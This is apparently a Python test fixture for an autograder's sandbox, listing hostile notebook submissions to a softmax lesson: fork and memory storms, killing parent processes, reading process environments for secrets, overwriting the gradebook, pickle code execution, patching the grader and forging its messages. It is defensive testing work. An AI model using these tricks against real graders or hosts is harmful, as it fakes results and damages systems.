"""Hostile submissions to lesson 01: none may gain a point, harm the host, or stop the batch.

The honest answer `attention_scores`, worth 1 point, is added at the end of every one: `KEEPS_IT` names
those that leave it its point. Everything is bounded by itself: in count, in size and in time, so that a
sandbox that fails does not take the machine with it.
"""

import json
from typing import NamedTuple

HONEST = "def attention_scores(q, k):\n    return q @ k.mT / q.shape[-1] ** 0.5"


class Attack(NamedTuple):
    """A hostile notebook of one cell.

    Attributes:
        told: a pattern in what the judge says, which it says only if the attack took place.
        cell: its code. PORT and KEEP stand for a port and a file of the host.
        forged: the beginning of a message that arrives at the judge, if one is forged.
    """

    told: str
    cell: str
    forged: str = ""


def answer(told: str, body: str, before: str = "") -> Attack:
    """A notebook whose `stable_softmax` has this body."""
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    head = f"import os, sys, torch\n{before}\n\ndef stable_softmax(x, dim=-1):\n{lines}"
    return Attack(told, head)


# -------------------------------------------------- what ends or blocks the process

ENDS = {
    "exit in an answer": answer("ended the process .exit status 0", "os._exit(0)"),
    "sys.exit in an answer": answer("SystemExit: 0", "sys.exit(0)"),
    "SystemExit with a tensor": answer("SystemExit: tensor", "raise SystemExit(x.softmax(dim))"),
    "exit while importing": Attack("cell 1 was left out: it ended the process", "import os\nos._exit(0)"),
    "exit by a signal": answer("It returned None", "import signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    "exit by a crash": answer("ended the process .exit status -11", "import ctypes\nctypes.string_at(0)"),
    "abort": answer("ended the process .exit status -", "os.abort()"),
    "endless loop in an answer": answer("ran too long", "while True:\n    pass"),
    "endless loop while importing": Attack("cell 1 was left out: it ran too long", "while True:\n    pass"),
    "endless loop that ignores signals": answer(
        "ran too long", "while True:\n    pass",
        "import signal\n"
        "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):\n"
        "    signal.signal(s, signal.SIG_IGN)",
    ),
    "sleep without end": answer("ran too long", "import time\ntime.sleep(3600)"),
    "recursion without end": answer("RecursionError", "return stable_softmax(x, dim)"),
    "keyboard interrupt": answer("KeyboardInterrupt", "raise KeyboardInterrupt"),
    "a hook at exit": answer("SystemExit", "sys.exit()", "import atexit\natexit.register(lambda: os._exit(0))"),
}  # fmt: skip

# ---------------------------------------------------------------------------- storms

PRINTED = """
class Overflow(Exception):
    pass
wrote = sum(print('x' * 100) or 101 for _ in range(20_000))
"""

STORMS = {
    "fork storm": answer("PermissionError.*\\n.*os.fork", "for _ in range(50):\n    os.fork()\nreturn x.softmax(dim)"),
    "process storm": answer(
        "PermissionError.*\\n.*_fork_exec", "import subprocess\nfor _ in range(50):\n    subprocess.Popen(['/bin/sleep', '30'])\n"
        "return x.softmax(dim)"
    ),
    "thread storm": answer(
        "can't start new thread", "import threading, time\nfor _ in range(2000):\n"
        "    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n"
        "return x.softmax(dim)"
    ),
    "memory storm": answer(
        "MemoryError|ran too long", "hoard = [bytearray(1 << 28) for _ in range(64)]\nreturn x.softmax(dim)"
    ),
    "disk storm": answer(
        "No space left on device", "for i in range(64):\n    with open(f'/tmp/{i}', 'wb') as f:\n        f.write(bytes(1 << 22))\n"
        "return x.softmax(dim)"
    ),
    "print storm": answer("raised Overflow: 2020000", PRINTED + "raise Overflow(wrote)"),
    "print storm while importing": Attack("raised Overflow", PRINTED + "raise Overflow(wrote)"),
    "a huge result": answer("but is a tensor .torch.strided", "return torch.zeros(4_000, 4_000)"),
    "a huge error": answer("ValueError: x{500}", "raise ValueError('x' * 50_000_000)"),
    "many results": answer("returned 1000 values", "return tuple(torch.zeros(1) for _ in range(40_000))"),
    "a number too large": answer("but is an int", "return 10 ** 100_000"),
}  # fmt: skip

# ------------------------------------------------------------------ reading and writing

FILES = {
    "reads the solutions": answer(
        "found=0, seen=True",
        "raise RuntimeError(f'found={len(found)}, seen={seen > 100}')",
        "seen, found = 0, []\n"
        "for top, folders, files in os.walk('/'):\n"
        "    folders[:] = set(folders) - {'proc', 'sys', 'share', 'include', 'site-packages'}\n"
        "    seen += len(files)\n"
        "    found += [f for f in files if f == '01_single_head.ipynb']"
    ),
    "calls the library": answer("no attribute 'einsum_attention'", "import attn_lib\nreturn attn_lib.einsum_attention(x, x, x)[1]"),
    "calls the reference": answer(
        "no task named .stable_softmax", "from attn_lib.checks.task import find_task\nreturn find_task('stable_softmax').reference(x, dim)"
    ),
    "asks for its own answer": answer(
        "no task named .stable_softmax", "from attn_lib.checks import mine\nreturn mine('stable_softmax')(x, dim)"
    ),
    "reads the environment of its parents": answer(
        "found=False, seen=[0-9]",
        "import pathlib\n"
        "seen = [repr(dict(os.environ)).encode()]\n"
        "seen += [p.read_bytes() for p in pathlib.Path('/proc').glob('[0-9]*/environ')]\n"
        "raise RuntimeError(f'found={any(b\"HOST_SECRET\" in s for s in seen)}, seen={len(seen)}')"
    ),
    "kills its parents": answer(
        "sent=[1-9]",
        "import signal\nsent = 0\nfor pid in (os.getppid(), 1, *range(2, 50)):\n"
        "    try:\n        os.kill(pid, signal.SIGTERM)\n        sent += 1\n    except OSError:\n        pass\n"
        "raise RuntimeError(f'{sent=}')"
    ),
    "overwrites the gradebook": answer(
        "wrote=6",
        "os.makedirs(os.path.dirname(KEEP), exist_ok=True)\n"
        "with open(KEEP, 'w') as file:\n    wrote = file.write('stolen')\nraise RuntimeError(f'{wrote=}')"
    ),
    "network": answer(
        "Network is unreachable", "import socket\nsocket.create_connection(('127.0.0.1', PORT), 2).sendall(b'stolen')\n"
        "return x.softmax(dim)"
    ),
}  # fmt: skip

# ------------------------------------------------------------------------ cheating the check

CHEATS = {
    "patches the check": Attack(
        "got 1.0000",
        "import attn_lib.checks as c\nc.judge = c.check = c.grade = lambda *a, **k: 1.0\n"
        "def stable_softmax(x, dim=-1):\n    return x if c.grade() else None"
    ),
    "patches torch.allclose": Attack(
        "got 1.0000",
        "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
        "torch.Tensor.__eq__ = lambda *a: True\ntorch.Tensor.isfinite = lambda s: s\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ),
    "patches the observer": Attack(
        "returned 0 values",
        "import attn_lib.grading.worker as w, attn_lib.checks.observe as o\n"
        "w.observe = o.observe = o._gradients = lambda *a, **k: o.Outcome()\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ),
    "patches the messages": Attack(
        "sent nonsense to the judge",
        "import attn_lib.grading.worker as w\n"
        "w.pack_outcome = lambda *a: {'status': 'passed', 'points': 99}\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ),
    "writes to the judge": answer(
        "a message of 1953702523", "for fd in range(3, 64):\n    try:\n        os.write(fd, b'{\"status\": \"passed\"}' * 10)\n"
        "    except OSError:\n        pass\nreturn x"
    ),
    "sends an outcome of its own": answer(
        "returned 0 values", "import json, struct\n"
        "h = json.dumps({'values': [], 'count': 0, 'is_sequence': False, 'gradients': {}, 'error': None,"
        " 'untouched': False, 'after': {}, 'printed': '', 'status': 'passed', 'points': 9}).encode()\n"
        "for fd in range(3, 64):\n    try:\n        os.write(fd, struct.pack('<II', len(h), 0) + h)\n"
        "    except OSError:\n        pass\nreturn x"
    ),
    "announces a size that never comes": answer(
        "a message of 524288 . 33554432", "import struct\nfor fd in range(3, 64):\n    try:\n        os.write(fd, struct.pack('<II', 1 << 19, 1 << 25))\n"
        "    except OSError:\n        pass\nreturn x"
    ),
    "closes every file": answer("ended the process", "os.closerange(0, 64)\nreturn x"),
    "equal to everything": answer(
        "got 1.0000", "class Same(torch.Tensor):\n"
        "    def __eq__(self, other):\n        return True\n"
        "    @classmethod\n"
        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        return True\n"
        "return torch.Tensor._make_subclass(Same, x)"
    ),
    "code in a pickle": answer(
        "is a Bomb", "class Bomb:\n    def __reduce__(self):\n        return os.system, ('touch /tmp/bomb',)\nreturn Bomb()"
    ),
    "looks for the expected result": answer(
        "frames=[1-9]",
        "import gc\nframes = 0\n"
        "for item in gc.get_objects():\n"
        "    if isinstance(item, torch.Tensor) and item is not x and item.shape == x.shape:\n"
        "        if (item.sum(dim) - 1).abs().max() < 1e-3:\n            return item\n"
        "frame = sys._getframe()\n"
        "while frame:\n"
        "    for value in frame.f_locals.values():\n"
        "        if 'reference' in getattr(value, '__dict__', ()):\n            return value.reference(x, dim)\n"
        "    frame, frames = frame.f_back, frames + 1\nraise RuntimeError(f'{frames=}')"
    ),
    "knows the public inputs": answer(
        "expected 0.7311, got 10000", "table = {(1.0, 2.0, 4.0): [0.042010, 0.114195, 0.843795]}\n"
        "key = tuple(x.flatten().tolist())\n"
        "return torch.tensor([table[key]]) if key in table else x"
    ),
    "right for the first calls": answer(
        "expected 0.7311, got 10000", "calls.append(1)\nreturn x.softmax(dim) if len(calls) < 5 else x", "calls = []"
    ),
    "right while it is watched": answer(
        "got 1.0000", "names = [f.function for f in __import__('inspect').stack()]\n"
        "return x.softmax(dim) if 'check' in names else x"
    ),
    "a class without a name": answer("whose class has no name", "return type('', (), {})()"),
    "an error without a name": answer("It raised *: mine", "raise type('', (Exception,), {})('mine')"),
    "verdict as a tensor": answer("got 1.0000", "x.status, x.points = 'passed', 9\nreturn x"),
    "a module of its own": Attack(
        "ended the process",
        "import sys, types\n"
        "for name in list(sys.modules):\n"
        "    if name.startswith('attn_lib'):\n        sys.modules[name] = types.ModuleType(name)\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ),
    "defines a check of its own": Attack(
        "got 1.0000",
        "def check(*a, **k):\n    print('passed')\ngrade = judge = check\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ),
}  # fmt: skip

# ------------------------------------------------------------- forged outcomes and messages


def forged(told: str, **said: str) -> Attack:
    """A notebook with a right `stable_softmax` without gradients, whose outcomes say something else."""
    lies = "".join(f"    said[{name!r}] = {value}\n" for name, value in said.items())
    cell = (
        "import sys, torch, attn_lib.grading.worker as w\n"
        "def pack_outcome(outcome, blobs, honest=w.pack_outcome):\n"
        "    said = honest(outcome, blobs)\n"
        "    if sys._getframe(1).f_locals['header']['task'] != 'stable_softmax':\n        return said\n"
        "    def tensor(dtype, shape, size):\n"
        "        blobs.append(bytes(size))\n"
        "        start = sum(map(len, blobs)) - size\n"
        "        return {'tensor': [dtype, shape, list(range(len(shape))), start]}\n"
        f"{lies}    return {{'forged': True}} | said\n"
        "w.pack_outcome = pack_outcome\n"
        "def stable_softmax(x, dim=-1):\n    return x.detach().softmax(dim)"
    )
    return Attack(told, cell, '{"forged": true')


def sent(header: object) -> Attack:
    """A notebook that sends a message of its own while its cells run."""
    text = json.dumps(header)
    cell = (
        "import os, struct\n"
        f"os.write(3, struct.pack('<II', {len(text)}, 0) + {text.encode()!r})\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    )
    return Attack("Code cell 1 was left out", cell, text)


FORGED = {
    "a gradient of no numbers": forged("gradient of `x` is wrong", gradients="{'0': tensor('float32', [0, 1, 1, 1, 1, 1], 0)}"),
    "a gradient of another shape": forged("gradient of `x` is wrong", gradients="{'0': tensor('float32', [7, 11], 308)}"),
    "a gradient of eight bits": forged("gradient of `x` is wrong", gradients="{'0': tensor('float8_e4m3fn', [1], 1)}"),
    "a complex gradient": forged("gradient of `x` is wrong", gradients="{'0': tensor('complex64', [1], 8)}"),
    "the same bytes as many gradients": forged(
        "gradient of `x` is wrong",
        gradients="dict.fromkeys(map(str, range(2_000)), tensor('uint8', [4_000_000], 4_000_000))"
    ),
    "infinitely many values": forged("nonsense", count="float('inf')"),
    "a line without end": forged("nonsense", error="['E', 't', 'e', [['f', float('inf')]], False]"),
    "a size without end": forged("nonsense", values="[{'tensor': ['float32', [float('inf')], [0], 0]}]"),
    "sizes too large to multiply": forged("nonsense", values="[tensor('float32', [0] + [1 << 22] * 9, 0)]"),
    "an argument that is none": forged("no gradient reaches", after="said['after'] | {'\\u00b2': {'none': 1}}"),
    "an argument far away": forged("no gradient reaches", after="said['after'] | {'9999': tensor('int8', [1], 1)}"),
    "an argument that is gone": forged("an argument has changed", after="{}"),
    "ten thousand arguments": forged("nonsense", after="dict.fromkeys(map(str, range(10_000)))"),
    "markup and control characters": forged(
        "<script>",
        error="['<script>', *['<script>\\x1b[2J\\ud800=1+1' * 99] * 2, [['<script>', 1]], False]"
    ),
    "a cell numbered infinity": sent({"cell": float("inf")}),
    "a cell numbered in words": sent({"cell": "one"}),
    "definitions that are none": sent({"defined": 5}),
    "a list for a message": sent([1, 2]),
    "nothing for a message": sent(None),
}  # fmt: skip

# ------------------------------------- what no limit of memory counts, and what leaves the machine


def gets(told: str, code: str) -> Attack:
    """A notebook whose `stable_softmax` is right if this code raises no OSError; else it says which."""
    before = (
        "import ctypes, pathlib, socket\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "def called(name, *arguments):\n"
        "    if getattr(libc, name)(*arguments) < 0:\n"
        "        raise OSError(ctypes.get_errno(), name)"
    )
    return answer(told, f"{code}\nreturn x.softmax(dim)", before)


HOARDS = {
    "files without names": gets("Errno 1]", "os.memfd_create('x')"),
    "shared memory": gets("Errno 1]", "called('shmget', 0, 1 << 20, 0o1600)"),
    "semaphores": gets("Errno 1]", "called('semget', 0, 10, 0o1600)"),
    "message queues": gets("Errno 1]", "called('msgget', 0, 0o1600)"),
    "named message queues": gets("Errno 1]", "called('mq_open', b'/x', os.O_CREAT | os.O_RDWR, 0o600, None)"),
    "contexts of input and output": gets(
        "Errno 1]", "called('syscall', 206 if os.uname().machine == 'x86_64' else 0, 9, ctypes.byref(ctypes.c_long()))"
    ),
    "two thousand open files": gets("Errno 24]", "held = [open('/dev/null') for _ in range(2000)]"),
    "many small files": gets("Errno 28]", "for i in range(20_000):\n    open(f'/tmp/{i}', 'w').close()"),
    "a file in the root": gets("Errno 30]", "pathlib.Path('/x').write_bytes(bytes(1 << 20))"),
    "a file in /etc": gets("Errno 30]", "pathlib.Path('/etc/x').write_bytes(bytes(1 << 20))"),
    "a file beside Python": gets("Errno 30]", "pathlib.Path(sys.base_prefix).with_name('x').write_text('x')"),
    "a socket to the host of a virtual machine": gets("Errno 97]", "socket.socket(40, socket.SOCK_STREAM)"),
    "a socket to the kernel": gets("Errno 97]", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)"),
    "a socket for ciphers": gets("Errno 97]", "socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)"),
}  # fmt: skip

HOSTILE = ENDS | STORMS | FILES | CHEATS | FORGED | HOARDS
# Where the honest answer cannot be expected to survive: what it needs was broken in its own process.
LOSES_IT = {
    "patches torch.allclose",
    "patches the observer",
    "patches the messages",
    "a module of its own",
    "sends an outcome of its own",
}
KEEPS_IT = set(HOSTILE) - LOSES_IT
